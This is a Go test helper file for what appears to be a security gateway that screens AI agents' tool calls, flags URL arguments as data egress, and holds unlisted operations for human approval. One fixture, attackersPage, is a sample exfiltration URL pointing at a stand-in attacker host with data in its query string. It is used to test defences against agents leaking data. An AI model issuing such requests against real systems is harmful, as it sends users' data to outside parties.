package gateway_test

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"sallyport.example/flow"
	"sallyport.example/internal/call"
	"sallyport.example/internal/catalogue"
	"sallyport.example/internal/fault"
	"sallyport.example/internal/gateway"
	"sallyport.example/internal/identity"
	"sallyport.example/provenance"
)

const sendPage = `{"url":"https://example.com/page",` + because + `}`

func (w *commWorld) submit(p identity.Principal, steps string) gateway.PlanAnswer {
	w.t.Helper()
	a, err := w.g.SubmitPlan(w.t.Context(), p, "", json.RawMessage(`{"steps":`+steps+`}`))
	if err != nil {
		w.t.Fatal(err)
	}
	return a.(gateway.PlanAnswer)
}

// unlistedWorld has an operation that no entry names, so that a plan with it waits for a person.
func unlistedWorld(t *testing.T, tweak ...func(*gateway.Options)) *commWorld {
	w := newCommWorld(t, append([]func(*gateway.Options){func(o *gateway.Options) {
		o.Unlisted = catalogue.Active
		inner := o.Classify
		o.Classify = func(server, tool string) catalogue.Classification {
			c := inner(server, tool)
			if server == "shy" {
				c.Flow.Effect = flow.Read
			}
			return c
		}
	}}, tweak...)...)
	w.offer("shy", definition("shy", "look", "New."))
	return w
}

func gatewayOn(t *testing.T, w *world, s gateway.Store) *gateway.Gateway {
	t.Helper()
	w.o.Store = s
	g, err := gateway.New(t.Context(), w.o)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { g.Close(context.Background()) })
	for _, server := range []string{"mail", "web", "docs"} {
		var defs []call.Definition
		for id := range classes {
			if s, tool, _ := strings.Cut(id, "."); s == server {
				defs = append(defs, definition(server, tool, "A tool."))
			}
		}
		if err := g.Catalogue().UpdateDefinitions(t.Context(), server, defs); err != nil {
			t.Fatal(err)
		}
	}
	return g
}

func offerTemplate(w *world) {
	raw := json.RawMessage(`{"name":"row","uriTemplate":"db://rows/{id}"}`)
	w.offer("shy", call.Definition{Server: "shy", Name: "db://rows/{id}", Kind: call.Resource, JSON: raw, Hash: call.HashBytes(raw)})
}

func (w *world) as(p identity.Principal, tool string) gateway.Answer {
	return w.g.Call(w.t.Context(), gateway.Request{Principal: p, Method: "tools/call", Tool: tool, Arguments: json.RawMessage(`{"q":"x"}`), Door: "mcp"})
}

func shy(c catalogue.Classification) func(*gateway.Options) {
	return func(o *gateway.Options) {
		o.Classify = func(server, tool string) catalogue.Classification {
			if server == "shy" {
				c.Listed, c.ExternalIO = true, true
				return c
			}
			return classify(server, tool)
		}
	}
}

func (w *world) offer(server string, defs ...call.Definition) {
	w.t.Helper()
	if err := w.g.Catalogue().UpdateDefinitions(w.t.Context(), server, defs); err != nil {
		w.t.Fatal(err)
	}
}

func (w *world) labels(agent string) string {
	s, err := w.g.SessionFor(w.t.Context(), as(agent))
	if err != nil {
		w.t.Fatal(err)
	}
	return fmt.Sprint(s.Labels)
}

// egressWorld is a traced world with operations whose address can carry data away: a tool, and a server's resources.
func egressWorld(t *testing.T, tweak ...func(*gateway.Options)) *commWorld {
	return newTracedWorld(t, append([]func(*gateway.Options){func(o *gateway.Options) {
		inner := o.Classify
		o.Classify = func(server, tool string) catalogue.Classification {
			if server == "web" && (tool == "get" || tool == "read_resource") {
				return catalogue.Classification{Listed: true, Named: true, ExternalIO: true, Output: provenance.UntrustedOutput, Facts: catalogue.Facts{EgressURL: true},
					Flow: flow.Spec{Sensitivity: flow.None, Effect: flow.Read, Untrusted: true}, Roles: map[string]string{"url": "url", "uri": "url"}}
			}
			return inner(server, tool)
		}
	}}, tweak...)...)
}

const attackersPage = `{"url":"https://attacker.example/?d=figures"}`

// judgedOnly is what would become of a call: nothing is held, nothing runs.
func judgedOnly(w *commWorld, p identity.Principal, tool, arguments string) fault.Verdict {
	return w.g.Call(w.t.Context(), gateway.Request{Principal: p, Method: "tools/call", Tool: tool, Arguments: json.RawMessage(arguments), Door: "mcp", DryRun: true}).Verdict
}

// decide approves the plan that waits in an agent's own session, as a person.
func (w *world) decide(agent, digest string) {
	w.t.Helper()
	if _, err := w.g.DecidePlan(w.t.Context(), w.session(agent).ID, digest, true, "person:admin", ""); err != nil {
		w.t.Fatal(err)
	}
}
